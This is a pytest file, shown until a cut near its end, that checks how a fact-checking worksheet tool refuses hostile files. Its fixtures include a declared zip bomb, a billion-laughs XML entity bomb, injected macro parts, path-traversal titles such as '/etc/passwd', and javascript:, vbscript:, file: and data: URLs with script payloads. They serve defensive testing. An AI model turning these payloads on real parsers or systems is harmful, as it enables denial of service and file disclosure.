"""Hostile input: every command, every bad file; one clear line, exit 2, nothing lost.

What every command promises, tested here row by row:

- exit codes: 0 done; 1 done but problems found (``status --strict``); 2 bad input;
- errors: one line per problem on stderr, naming the file and the place, no traceback;
- nothing lost: no output is created or replaced unless the whole command succeeds, and
  an existing tracker or worksheet is byte-for-byte unchanged after any failure.

The matrix with each row's outcome is in ``/tmp/hostile-report.md`` (see the final
report of the hostile-input issue). Slow rows (a 20 MB article and 20,000 claims built
end to end) run only with ``WORKSHEET_SLOW=1``; their library-level halves always run.
"""

from __future__ import annotations

import errno
import html
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from python_calamine import CalamineWorkbook
from tracker_fixtures import base_rows, edit, handmade, letter, write_fresh
from typer.testing import CliRunner, Result

import worksheet.files as files
from worksheet import columns
from worksheet.article import load_article
from worksheet.build import build, output_paths, slugify
from worksheet.claims import MAX_CLAIMS, load_claims
from worksheet.cli import app
from worksheet.errors import ArticleError, ClaimsError, OutputError
from worksheet.prepare import prepare
from worksheet.safety import CELL_LIMIT, CUT_MARKER, FORMULA_PREFIXES
from worksheet.scales import load_scale
from worksheet.textio import MAX_TEXT_BYTES
from worksheet.tracker.read import read_tracker
from worksheet.tracker.write import write_tracker

ROOT = Path(__file__).resolve().parents[1]
ARTICLE = ROOT / "examples" / "putin-biden" / "article.md"
CLAIMS = ROOT / "examples" / "putin-biden" / "claims.yaml"
SLUG = "what-putin-really-told-biden"
SLOW = os.environ.get("WORKSHEET_SLOW") == "1"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
runner = CliRunner()


# ---------------------------------------------------------------------------- helpers


def cli(*args: object) -> Result:
    """Run a command in-process, as the user would type it."""
    return runner.invoke(app, [str(a) for a in args])


def refused(result: Result, *needles: str) -> None:
    """Exit 2; stderr one line per problem (error:/warning:), each needle in it; no traceback."""
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert lines, "no message"
    assert all(line.startswith(("error: ", "warning: ")) for line in lines), result.stderr
    for needle in needles:
        assert needle in result.stderr, (needle, result.stderr)


def done(result: Result) -> None:
    """Exit 0 and no traceback."""
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file in a folder (not below), by name, as bytes."""
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}


def no_temps(folder: Path) -> None:
    assert not list(folder.glob(files.TEMP_PREFIX + "*"))


def zip_of(parts: dict[str, bytes | str]) -> bytes:
    """A zip file's bytes holding ``parts``."""
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def rezip(src: Path, dst: Path, replace: dict[str, bytes | str] | None = None,
          add: dict[str, bytes | str] | None = None) -> Path:
    """A copy of an Office file with some parts replaced or added."""
    with zipfile.ZipFile(src) as archive:
        parts: dict[str, bytes | str] = {n: archive.read(n) for n in archive.namelist()}
    parts.update(replace or {})
    parts.update(add or {})
    dst.write_bytes(zip_of(parts))
    return dst


def declared_bomb(src: Path, dst: Path) -> Path:
    """A small zip whose first entry declares a 4 GB uncompressed size."""
    data = bytearray(src.read_bytes())
    central = data.find(b"PK\x01\x02")
    data[central + 24:central + 28] = (0xFFFFFFF0).to_bytes(4, "little")
    dst.write_bytes(bytes(data))
    return dst


LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          + "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(2, 10))
          + "]>")


def xml_bomb(src: Path, dst: Path, part: str, marker: str) -> Path:
    """A copy of an Office file whose ``part`` expands a billion laughs after ``marker``."""
    with zipfile.ZipFile(src) as archive:
        xml = archive.read(part).decode("utf-8")
    if xml.startswith("<?xml"):
        xml = xml.split("?>", 1)[1]
    assert marker in xml
    return rezip(src, dst, replace={part: LAUGHS + xml.replace(marker, marker + "&lol9;", 1)})


def ods(path: Path, sheets: dict[str, list[list[str]]]) -> Path:
    """A minimal OpenDocument spreadsheet (what calamine needs of one), all cells text."""
    from xml.sax.saxutils import escape

    def table(name: str, rows: list[list[str]]) -> str:
        body = "".join(
            "<table:table-row>" + "".join(
                f'<table:table-cell office:value-type="string"><text:p>{escape(v)}</text:p>'
                "</table:table-cell>" for v in row) + "</table:table-row>" for row in rows)
        return f'<table:table table:name="{escape(name)}">{body}</table:table>'

    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        "<office:body><office:spreadsheet>"
        + "".join(table(n, r) for n, r in sheets.items())
        + "</office:spreadsheet></office:body></office:document-content>")
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>")
    path.write_bytes(zip_of({"mimetype": "application/vnd.oasis.opendocument.spreadsheet",
                             "content.xml": content, "META-INF/manifest.xml": manifest}))
    return path


def write_claims(path: Path, claims: list[dict[str, Any]], **extra: Any) -> Path:
    """A claims file (JSON is YAML too, so any suffix of those two)."""
    path.write_text(json.dumps({**extra, "claims": claims}, ensure_ascii=False, indent=1),
                    encoding="utf-8")
    return path


def docx_text(path: Path) -> str:
    """All the text of a Word file: body paragraphs and table cells."""
    document = docx.Document(str(path))
    parts = [p.text for p in document.paragraphs]
    for tbl in document.tables:
        for row in tbl.rows:
            parts += [cell.text for cell in row.cells]
    return "\n".join(parts)


def external_links(path: Path) -> list[str]:
    """The targets of every link in an Office file: external relationships (hyperlinks)
    and the spreadsheet's HYPERLINK formulas (the tracker's Sources sheet)."""
    targets = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                xml = archive.read(name).decode("utf-8")
                targets += re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', xml)
                targets += re.findall(r'TargetMode="External"[^>]*Target="([^"]*)"', xml)
            elif name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                targets += [html.unescape(t).replace('""', '"') for t in
                            re.findall(r'<f>HYPERLINK\("((?:[^"]|"")*)"\)</f>', xml)]
    return targets


def claims_cells(path: Path) -> list[list[Any]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(
        columns.CLAIMS_SHEET).to_python()


@pytest.fixture(scope="module")
def example(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example's tracker as built (do not change it: copy it)."""
    out = tmp_path_factory.mktemp("example")
    return build(ARTICLE, CLAIMS, out).tracker


@pytest.fixture
def tracker(example: Path, tmp_path: Path) -> Path:
    """A private copy of the example's tracker."""
    return Path(shutil.copy(example, tmp_path / "tracker.xlsx"))


# ---------------------------------------------------------------------------- bad files

DIR = "<dir>"
LOCK = b"\x05Ana   " + b"\x00" * 150  # what Excel leaves beside an open workbook

ARTICLE_CASES = [
    ("missing.md", None, "no such file"),
    ("folder", DIR, "is a folder"),
    ("empty.md", b"", "has no text"),
    ("photo.png", PNG, "binary file"),
    ("png-named.md", PNG, "binary file"),
    ("archive.zip", zip_of({"a.txt": "hi"}), "zip archive"),
    ("png-named.docx", PNG, "damaged Word document"),
    ("~$article.docx", LOCK, "lock file"),
    ("bomb.docx", None, "more than the 1 GB limit"),
]
CLAIMS_CASES = [
    ("missing.yaml", None, "no such file"),
    ("folder", DIR, "is a folder"),
    ("empty.yaml", b"", "empty"),
    ("empty.csv", b"", "empty"),
    ("empty.json", b"", "empty.json:1:1: malformed JSON"),
    ("photo.png", PNG, "unknown claims file type '.png'"),
    ("png-named.yaml", PNG, "binary file"),
    ("zip-named.yaml", zip_of({"a.txt": "hi"}), "binary file"),
    ("zip-not-office.xlsx", zip_of({"a.txt": "hi"}), "zip file but not a spreadsheet"),
    ("password.xlsx", OLE2 + bytes(2000), "password-protected"),
    ("~$claims.xlsx", LOCK, "lock file"),
    ("yaml-named.json", CLAIMS.read_bytes(), "yaml-named.json:1:1: malformed JSON"),
]
TRACKER_CASES = [
    ("missing.xlsx", None, "no such file"),
    ("folder", DIR, "is a folder"),
    ("empty.xlsx", b"", "not a spreadsheet"),
    ("png-named.xlsx", PNG, "not a spreadsheet"),
    ("zip-not-office.xlsx", zip_of({"a.txt": "hi"}), "zip file but not a spreadsheet"),
    ("password.xlsx", OLE2 + bytes(2000), "password-protected"),
    ("~$tracker.xlsx", LOCK, "lock file"),
    ("bomb.xlsx", None, "more than the 1 GB limit"),
    ("xml-bomb.xlsx", None, "cannot be read"),
    ("macros.xlsm", None, "holds macros"),
    ("macros-named.xlsx", None, "holds macros"),
]


def make_file(tmp_path: Path, name: str, content: bytes | str | None, example: Path) -> Path:
    """The bad file of a matrix row; the tracker-shaped ones are made from ``example``."""
    path = tmp_path / name
    if content == DIR:
        path.mkdir()
    elif isinstance(content, bytes):
        path.write_bytes(content)
    elif name == "bomb.docx":
        document = docx.Document()
        document.add_paragraph("Text.")
        document.save(str(tmp_path / "plain.docx"))
        declared_bomb(tmp_path / "plain.docx", path)
    elif name == "bomb.xlsx":
        declared_bomb(example, path)
    elif name == "xml-bomb.xlsx":
        xml_bomb(example, path, "xl/worksheets/sheet1.xml", "<is><t>C1")
    elif name.startswith("macros"):
        rezip(example, path, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    return path


@pytest.mark.parametrize(("name", "content", "message"), ARTICLE_CASES,
                         ids=[c[0] for c in ARTICLE_CASES])
@pytest.mark.parametrize("command", ["check", "build", "suggest"])
def test_bad_article(tmp_path: Path, example: Path, command: str, name: str,
                     content: bytes | None, message: str) -> None:
    bad = make_file(tmp_path, name, content, example)
    out = tmp_path / "out"
    args = {"check": ["check", bad, CLAIMS], "build": ["build", bad, CLAIMS, "--out", out],
            "suggest": ["suggest", bad]}[command]
    refused(cli(*args), str(bad), message)
    assert not out.exists()


@pytest.mark.parametrize(("name", "content", "message"), CLAIMS_CASES,
                         ids=[c[0] for c in CLAIMS_CASES])
@pytest.mark.parametrize("command", ["check", "build"])
def test_bad_claims_file(tmp_path: Path, example: Path, command: str, name: str,
                         content: bytes | None, message: str) -> None:
    bad = make_file(tmp_path, name, content, example)
    out = tmp_path / "out"
    args = ["build", ARTICLE, bad, "--out", out] if command == "build" else ["check", ARTICLE,
                                                                             bad]
    refused(cli(*args), str(bad) if ":1:1" not in message else str(tmp_path), message)
    assert not out.exists()


@pytest.mark.parametrize(("name", "content", "message"), TRACKER_CASES,
                         ids=[c[0] for c in TRACKER_CASES])
@pytest.mark.parametrize("command", ["status", "export-csv", "export-report"])
def test_bad_tracker(tmp_path: Path, example: Path, command: str, name: str,
                     content: bytes | None, message: str) -> None:
    bad = make_file(tmp_path, name, content, example)
    out = tmp_path / "report.out"
    args = {"status": ["status", bad, "--format", "json"],
            "export-csv": ["export", bad, "--format", "csv", "--out", out],
            "export-report": ["export", bad, "--format", "report", "--out", out]}[command]
    if command == "status" and content == DIR:
        message = "holds no tracker this tool wrote"  # a folder is a desk: an empty one
    started = time.monotonic()
    refused(cli(*args), name, message)
    assert time.monotonic() - started < 10  # a bomb is refused, not unpacked
    assert not out.exists()
    no_temps(tmp_path)


@pytest.mark.parametrize(("name", "content", "message"), [
    c for c in TRACKER_CASES if c[0] not in ("missing.xlsx", "~$tracker.xlsx", "macros.xlsm")],
    ids=lambda v: v if isinstance(v, str) and v.endswith(("xlsx", "folder")) else "")
def test_build_over_a_bad_tracker_changes_nothing(tmp_path: Path, example: Path, name: str,
                                                  content: bytes | None, message: str) -> None:
    """The existing tracker is unreadable: build refuses and leaves every file as it was."""
    out = tmp_path / "out"
    out.mkdir()
    bad = make_file(tmp_path, name, content, example)
    _, tracker_path = output_paths(out, SLUG)
    bad.rename(tracker_path)
    before = snapshot(out)
    result = cli("build", ARTICLE, CLAIMS, "--out", out)
    if content == DIR:  # a folder where the tracker goes: it cannot be replaced
        refused(result, "cannot write")
    else:
        refused(result, tracker_path.name, message, "nothing was written")
    assert snapshot(out) == before
    assert sorted(p.name for p in out.iterdir()) == [tracker_path.name]


def test_lock_file_beside_the_tracker_is_ignored_by_build(tmp_path: Path) -> None:
    """Excel's ``~$…-tracker.xlsx`` beside the real tracker is neither read nor removed."""
    build(ARTICLE, CLAIMS, tmp_path)
    lock = tmp_path / f"~${SLUG}-tracker.xlsx"
    lock.write_bytes(LOCK)
    done(cli("build", ARTICLE, CLAIMS, "--out", tmp_path))
    assert lock.read_bytes() == LOCK


def test_wrong_extension_for_the_content(tmp_path: Path) -> None:
    """HTML named .txt reads as text without its tags; YAML named .json is a located error."""
    page = tmp_path / "page.txt"
    page.write_text("<html><body><h1>Budget</h1>\n\n<p>The budget grew by <b>4%</b> in "
                    "2023.</p></body></html>\n")
    claims = write_claims(tmp_path / "c.yaml", [{"claim": "Budget grew 4%",
                                                 "quote": "The budget grew by 4% in 2023."}])
    result = cli("check", page, claims)
    done(result)
    assert "exact" in result.stdout and "<b>" not in result.stdout


# ---------------------------------------------------------------------------- paths


def test_paths_with_spaces_and_non_ascii(tmp_path: Path) -> None:
    folder = tmp_path / "Dossier été 北京 ☃"
    folder.mkdir()
    article = Path(shutil.copy(ARTICLE, folder / "l'article (v2) — final.md"))
    claims = Path(shutil.copy(CLAIMS, folder / "les affirmations.yaml"))
    out = folder / "sortie à écrire" / "niveau 2"
    done(cli("build", article, claims, "--out", out))
    worksheet_path, tracker_path = output_paths(out, SLUG)
    assert docx.Document(str(worksheet_path)).paragraphs
    done(cli("status", tracker_path, "--format", "json", "--out", out / "état.json"))
    assert json.loads((out / "état.json").read_text(encoding="utf-8"))["total"] == 16


def test_output_folder_under_a_regular_file(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    refused(cli("build", ARTICLE, CLAIMS, "--out", blocker / "sub"), "cannot write")
    refused(cli("status", ARTICLE, "--out", blocker / "s.md"), "not a spreadsheet")
    assert blocker.read_text() == "x"


@pytest.mark.parametrize("err", [
    PermissionError(errno.EACCES, "Permission denied"),
    OSError(errno.ENOSPC, "No space left on device"),
], ids=["permission", "disk-full"])
@pytest.mark.parametrize("fail_on", [1, 2], ids=["first-rename", "second-rename"])
def test_failed_rename_loses_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                     err: OSError, fail_on: int) -> None:
    """A rename that fails, first or second of the pair: both old files stay as they were."""
    build(ARTICLE, CLAIMS, tmp_path)
    edit(output_paths(tmp_path, SLUG)[1], {f"{letter('verdict')}2": "True"})
    before = snapshot(tmp_path)
    real = os.replace
    calls: list[Any] = []

    def failing(src: Any, dst: Any) -> None:
        calls.append(dst)
        if len(calls) == fail_on:
            raise err
        real(src, dst)

    monkeypatch.setattr(os, "replace", failing)
    result = cli("build", ARTICLE, CLAIMS, "--out", tmp_path)
    refused(result, err.strerror or "")
    after = snapshot(tmp_path)
    assert after == before  # no new file, not even a backup; the old ones byte for byte
    no_temps(tmp_path)


def test_status_out_over_its_own_tracker_is_refused(tracker: Path) -> None:
    before = tracker.read_bytes()
    refused(cli("status", tracker, "--format", "md", "--out", tracker), "refusing to write over")
    assert tracker.read_bytes() == before


@pytest.mark.parametrize("title", ["../../x", "/etc/passwd", "C:\\Windows\\x", "CON", "NUL.txt",
                                   "..", ".", "", "a" * 300, "../" * 50 + "evil",
                                   "北京 ☃ 🎉", "\u202eexe.fdp"])
def test_names_from_titles_stay_in_the_output_folder(tmp_path: Path, title: str) -> None:
    article = tmp_path / "a.md"
    article.write_text(f"---\ntitle: {json.dumps(title, ensure_ascii=False)}\n---\n\n"
                       "The sky was blue on Monday.\n", encoding="utf-8")
    claims = write_claims(tmp_path / "c.yaml", [{"claim": "The sky was blue."}])
    out = tmp_path / "out"
    done(cli("build", article, claims, "--out", out))
    made = sorted(p.name for p in out.iterdir())
    assert len(made) == 2 and all(len(n) < 100 for n in made)
    slug = slugify(title)
    # Only ASCII letters, digits and inner hyphens; with "-tracker" after it, even "con"
    # is an ordinary name on Windows.
    assert re.fullmatch(r"[a-z0-9]+(?:-[a-z0-9]+)*", slug)
    assert made == [f"{slug}-tracker.xlsx", f"{slug}-worksheet.docx"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.md", "c.yaml", "out"]


# ---------------------------------------------------------------------------- text

CAFE = ("# Café talk\n\nThe café served crème brûlée to 300 people - a record, said Zoë.\n\n"
        "Second paragraph about naïve façades.\n")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be",
                                      "cp1252", "latin-1"])
def test_article_encodings_are_decoded(tmp_path: Path, encoding: str) -> None:
    article = tmp_path / "a.md"
    article.write_bytes(CAFE.encode(encoding))
    claims = write_claims(tmp_path / "c.yaml", [{"claim": "300 people",
                                                 "quote": "served crème brûlée to 300 people"}])
    result = cli("check", article, claims)
    done(result)
    assert '"Café talk"' in result.stdout
    assert "exact" in result.stdout, result.stdout


def test_control_characters_removed_with_warnings(tmp_path: Path) -> None:
    article = tmp_path / "a.md"
    # A stray NUL in an otherwise ordinary UTF-8 article: text, not a binary file.
    article.write_text("# Ti\x01tle\n\nThe bell\x07 rang 3 times at noon\x1b today.\n\n"
                       "Other\x00 text.\n\n" + "An ordinary sentence. " * 40 + "\n")
    claims = tmp_path / "c.yaml"
    claims.write_text('claims:\n  - claim: "The bell\\x07 rang \\x0c3 times"\n'
                      '    quote: "bell rang 3 times"\n    claimant: "A\\x00B"\n')
    out = tmp_path / "out"
    result = cli("build", article, claims, "--out", out)
    done(result)
    assert f"warning: {article}: control characters removed from ¶1, ¶2, title" in result.stderr
    assert f"warning: {claims}:2:12: claims[0].claim: control characters removed" \
           in result.stderr
    assert f"warning: {claims}:4:15: claims[0].claimant" in result.stderr
    worksheet_path, tracker_path = output_paths(out, "title")  # the title made the name
    text = docx_text(worksheet_path)
    assert "The bell rang 3 times at noon today." in text
    row = [c.value for c in openpyxl.load_workbook(tracker_path)[columns.CLAIMS_SHEET][2]]
    assert row[:3] == ["C1", "The bell rang 3 times", "The bell rang 3 times at noon today."]
    assert row[5] == "AB"
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text + json.dumps(row, default=str))


SCRIPTS = {
    "arabic": "قال الرئيس إن الاقتصاد نما بنسبة ثلاثة في المئة",
    "hebrew": "הממשלה הודיעה על 500 מקומות עבודה חדשים",
    "cjk": "北京今天宣布新增五百个就业岗位",
    "emoji": "Growth hit 3% 📈🇺🇦 👩🏽‍🔬 today",
    "combining": "Cafe\u0301 prices rose e\u0300 by 5%",
    "bidi-controls": "Price \u202bمئة\u202c rose \u2066by\u2069 5%",
}


def test_scripts_survive_into_docx_and_xlsx(tmp_path: Path) -> None:
    article = tmp_path / "a.md"
    article.write_text("# مرحبا Title\n\n" + "\n\n".join(f"{t}." for t in SCRIPTS.values()),
                       encoding="utf-8")
    claims = write_claims(tmp_path / "c.json", [
        {"claim": text, "quote": text, "claimant": name, "sources": [
            {"title": f"{text} source", "url": "https://example.org/" + name}]}
        for name, text in SCRIPTS.items()])
    out = tmp_path / "out"
    result = cli("build", article, claims, "--out", out)
    done(result)
    worksheet_path, tracker_path = output_paths(out, "title")
    text = docx_text(worksheet_path)
    # The article is NFC-normalised when loaded; claims keep the form they were written in.
    for value in SCRIPTS.values():
        assert value in text
    rows = claims_cells(tracker_path)
    assert [r[1] for r in rows[1:7]] == list(SCRIPTS.values())
    assert [r[5] for r in rows[1:7]] == list(SCRIPTS)
    assert all(r[3] != "" for r in rows[1:7])  # every one anchored in the article


def test_long_paragraph_and_claim_longer_than_a_cell(tmp_path: Path) -> None:
    """50,000 characters in a paragraph and 40,000 in a claim: all of it in the worksheet,
    cut with a marker and a warning in the tracker."""
    words = " ".join(f"w{i}" for i in range(10_000))
    paragraph = ("The minister said unemployment fell to 4 percent. " + words)[:49_999]
    paragraph = paragraph.rstrip() + "."
    article = tmp_path / "a.md"
    article.write_text(f"# Long\n\n{paragraph}\n\nShort one.\n")
    long_claim = "Claim " + "x" * 39_994
    claims = write_claims(tmp_path / "c.yaml", [
        {"claim": "Unemployment fell to 4 percent.", "quote": "unemployment fell to 4 percent"},
        {"claim": long_claim}])
    out = tmp_path / "out"
    started = time.monotonic()
    result = cli("build", article, claims, "--out", out)
    assert time.monotonic() - started < 30
    done(result)
    worksheet_path, tracker_path = output_paths(out, "long")
    assert re.search(f"warning: {tracker_path.name} Claims!C2: text of [0-9,]+ characters cut",
                     result.stderr), result.stderr
    assert f"warning: {tracker_path.name} Claims!B3: text of 40,000 characters cut" \
           in result.stderr
    text = docx_text(worksheet_path)
    assert long_claim in text and paragraph in text
    rows = claims_cells(tracker_path)
    for cell, full in ((rows[1][2], paragraph), (rows[2][1], long_claim)):
        assert len(cell) == CELL_LIMIT and cell.endswith(CUT_MARKER)
        assert full.startswith(cell[: -len(CUT_MARKER)])


def test_huge_article_is_refused_before_it_is_read(tmp_path: Path) -> None:
    huge = tmp_path / "huge.md"
    with open(huge, "wb") as fh:  # sparse: no disk used, but st_size says 60 GB
        fh.truncate(60 * 2**30)
    started = time.monotonic()
    refused(cli("check", huge, CLAIMS), "larger than 50 MB")
    refused(cli("build", huge, CLAIMS, "--out", tmp_path / "out"), "larger than 50 MB")
    claims = tmp_path / "claims.yaml"
    os.link(huge, claims)
    refused(cli("check", ARTICLE, claims), "larger than 50 MB")
    assert time.monotonic() - started < 5


def test_20mb_article_library_level(tmp_path: Path) -> None:
    """A 20 MB article loads and anchors the example's claims in seconds.

    The whole build (which also lays the article out in the worksheet) took 30 s on the
    reference machine: see ``test_20mb_article_build`` (WORKSHEET_SLOW=1).
    """
    article = _big_article(tmp_path)
    started = time.monotonic()
    prepared = prepare(article, CLAIMS)
    elapsed = time.monotonic() - started
    assert prepared.found == len(prepared.anchored) == 16
    assert len(prepared.article.paragraphs) > 100_000
    assert elapsed < 30, elapsed


def _big_article(tmp_path: Path) -> Path:
    text = ARTICLE.read_text(encoding="utf-8")
    body = text.split("\n\n", 1)[1]
    path = tmp_path / "big.md"
    path.write_text(text + ("\n\n" + body) * (20 * 2**20 // len(body.encode()) + 1),
                    encoding="utf-8")
    assert 20 * 2**20 <= path.stat().st_size < MAX_TEXT_BYTES
    return path


@pytest.mark.skipif(not SLOW, reason="about 30 s: set WORKSHEET_SLOW=1")
def test_20mb_article_build(tmp_path: Path) -> None:
    started = time.monotonic()
    result = cli("build", _big_article(tmp_path), CLAIMS, "--out", tmp_path / "out")
    done(result)
    print(f"20 MB article build: {time.monotonic() - started:.1f} s")


def _many_claims(path: Path, n: int) -> Path:
    return write_claims(path, [
        {"id": f"C{i}", "claim": f"Claim {i}: the call lasted two hours and {i} minutes.",
         **({"quote": "two hours and two minutes"} if i % 2 else {}),
         "sources": [f"https://example.org/{i}"]} for i in range(1, n + 1)])


def test_20000_claims_library_level(tmp_path: Path) -> None:
    """20,000 claims load, anchor, and make a tracker that reads back, in seconds.

    The whole build (with the Word worksheet of 20,000 claim pages) took 46 s on the
    reference machine (anchoring alone took minutes before it was memoised): see
    ``test_20000_claims_build`` (WORKSHEET_SLOW=1).
    """
    from worksheet.tracker.rows import rows_from_claims

    claims = _many_claims(tmp_path / "many.json", 20_000)
    started = time.monotonic()
    prepared = prepare(ARTICLE, claims)
    rows, sources = rows_from_claims(prepared.article, prepared.anchored)
    tracker_path = tmp_path / "t.xlsx"
    write_tracker(tracker_path, rows, sources, prepared.scale, prepared.article.meta)
    read = read_tracker(tracker_path)
    elapsed = time.monotonic() - started
    assert [r.id for r in read.rows] == [f"C{i}" for i in range(1, 20_001)]
    assert elapsed < 45, elapsed


def test_too_many_claims_are_refused_with_the_limit(tmp_path: Path) -> None:
    path = tmp_path / "c.json"
    path.write_text(json.dumps([f"Claim {i}" for i in range(MAX_CLAIMS + 1)]))
    started = time.monotonic()
    with pytest.raises(ClaimsError, match="more than the limit of 50,000"):
        load_claims(path)
    refused(cli("check", ARTICLE, path), "more than the limit")
    assert time.monotonic() - started < 10


@pytest.mark.skipif(not SLOW, reason="about 45 s: set WORKSHEET_SLOW=1")
def test_20000_claims_build(tmp_path: Path) -> None:
    started = time.monotonic()
    done(cli("build", ARTICLE, _many_claims(tmp_path / "c.json", 20_000), "--out", tmp_path))
    print(f"20,000 claims build: {time.monotonic() - started:.1f} s")


# ---------------------------------------------------------------------------- claims files

CLAIMS_PROBLEMS = [
    ("malformed.yaml", "claims:\n  - claim: a\n   - b: [\n", ":3:4: malformed YAML"),
    ("malformed.json", '{"claims": [\n  {"claim": "a",}\n]}', ":2:17: malformed JSON"),
    ("malformed.csv", 'id,claim\nC1,fine\nC2,"never closed\nC3,lost\n',
     ":3: malformed CSV in the record starting here"),
    ("unclosed-last.csv", 'claim\n"open to the end\n', ":2: malformed CSV"),
    ("unknown-key.yaml", "claims:\n  - claim: a\n    sorces: [x]\n",
     ':3:13: claims[0].sorces: unknown key \'sorces\' (did you mean "sources"?)'),
    ("unknown-column.csv", "id,claim,sorces\nC1,a,x\n",
     ':1:3: unknown column \'sorces\' (did you mean "sources"?)'),
    ("wrong-type.yaml", "claims:\n  - claim: [1, 2]\n", ":2:12: claims[0].claim: "),
    ("wrong-type-sources.yaml", "claims:\n  - claim: a\n    sources: 5\n",
     ":3:14: claims[0].sources"),
    ("bool-id.yaml", "claims:\n  - id: true\n    claim: a\n", "yes/no value (quote it)"),
    ("duplicate-id.yaml", "claims:\n  - {id: C1, claim: a}\n  - {id: C1, claim: b}\n",
     ":3:10: claims[1].id: 'C1' is already the id of claims[0]"),
    ("empty-claim.yaml", 'claims:\n  - claim: ""\n', ":2:12: claims[0].claim: string should "
     "have at least 1 character"),
    ("blank-claim.yaml", 'claims:\n  - claim: "   "\n', "claims[0].claim: string should"),
    ("no-claims.yaml", "claims: []\n", "claims: list should have at least 1 item"),
    ("duplicate-key.yaml", "claims:\n  - claim: a\n    claim: b\n",
     ":3:5: claims[0].claim: key 'claim' appears twice"),
    ("duplicate-key.json", '{"claims": [{"claim": "a", "claim": "b"}]}', "appears twice"),
    ("javascript-url.yaml", "claims:\n  - claim: a\n    sources: ['javascript:alert(1)']\n",
     ":3:15: claims[0].sources[0]"),
    ("file-url.yaml", "claims:\n  - claim: a\n    sources:\n      - {title: t, url: "
     "'file:///etc/passwd'}\n", "not an http, https or mailto URL: 'file:///etc/passwd'"),
    ("data-url.csv", 'claim,sources\na,"data:text/html;base64,PHNjcmlwdD4="\n',
     "not an http, https or mailto URL: 'data:text/html;base64,PHNjcmlwdD4='"),
    ("vbscript-url.json", '{"claims": [{"claim": "a", "sources": ["vbscript:msgbox"]}]}',
     "not an http, https or mailto URL"),
    ("spaced-url.yaml", "claims:\n  - claim: a\n    sources: [{url: 'https://a b'}]\n",
     "not an http, https or mailto URL"),
    ("scalar.yaml", "just a sentence\n", "expected a list of claims"),
    ("raw-control.yaml", "claims:\n  - claim: ok\n  - claim: bell\x07 here\n",
     ":3:16: control character U+0007 is not allowed in YAML"),
    ("raw-del.yaml", "claims:\n  - claim: del\x7f here\n", ":2:15: control character U+007F"),
]


@pytest.mark.parametrize(("name", "text", "message"), CLAIMS_PROBLEMS,
                         ids=[c[0] for c in CLAIMS_PROBLEMS])
def test_claims_file_problems_are_located(tmp_path: Path, name: str, text: str,
                                          message: str) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    result = cli("build", ARTICLE, path, "--out", out)
    refused(result, str(path), message)
    assert not out.exists()


def test_raw_control_characters_in_csv_and_json_claims_are_removed(tmp_path: Path) -> None:
    csv_path = tmp_path / "c.csv"
    csv_path.write_text("id,claim\nC1,bell\x07 rang\n", encoding="utf-8")
    json_path = tmp_path / "c.json"
    json_path.write_text('{"claims": [{"claim": "del\x7f and \\u0007 bell"}]}')
    for path in (csv_path, json_path):
        out = tmp_path / path.suffix[1:]
        result = cli("build", ARTICLE, path, "--out", out)
        done(result)
        assert "claims[0].claim: control characters removed" in result.stderr
        claim = claims_cells(output_paths(out, SLUG)[1])[1][1]
        assert claim in ("bell rang", "del\x7f and  bell")


@pytest.mark.parametrize("change", ["no Claims sheet", "no header row"])
def test_build_over_a_tracker_it_cannot_read_changes_nothing(tmp_path: Path,
                                                             change: str) -> None:
    build(ARTICLE, CLAIMS, tmp_path)
    _, tracker_path = output_paths(tmp_path, SLUG)
    wb = openpyxl.load_workbook(tracker_path)
    if change == "no Claims sheet":
        del wb[columns.CLAIMS_SHEET]
    else:
        wb[columns.CLAIMS_SHEET].delete_rows(1)
    wb.save(tracker_path)
    before = snapshot(tmp_path)
    refused(cli("build", ARTICLE, CLAIMS, "--out", tmp_path), tracker_path.name,
            "nothing was written")
    assert snapshot(tmp_path) == before
    done(cli("build", ARTICLE, CLAIMS, "--out", tmp_path, "--force"))  # the way out
    assert len(list(tmp_path.glob("*.backup-*.xlsx"))) == 1


def test_yaml_traps_read_as_written(tmp_path: Path) -> None:
    path = tmp_path / "c.yaml"
